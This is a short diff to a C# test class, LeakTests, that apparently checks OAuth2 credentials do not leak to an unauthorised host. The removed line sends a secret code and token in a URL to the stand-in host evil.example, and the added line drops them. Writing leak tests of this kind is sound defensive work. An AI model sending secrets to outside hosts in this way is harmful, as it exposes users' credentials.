@@ -135,7 +135,7 @@ public sealed class LeakTests
             using var response = await http.SendAsync(request);
             Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
             Tell(request.ToString());
-            using var elsewhere = new HttpRequestMessage(HttpMethod.Get, $"https://evil.example/{Secret("code")}?t={Secret("token")}").ForOAuth2User("alice");
+            using var elsewhere = new HttpRequestMessage(HttpMethod.Get, "https://evil.example/").ForOAuth2User("alice");
             await TellExceptionAsync(() => http.SendAsync(elsewhere));
         }
 
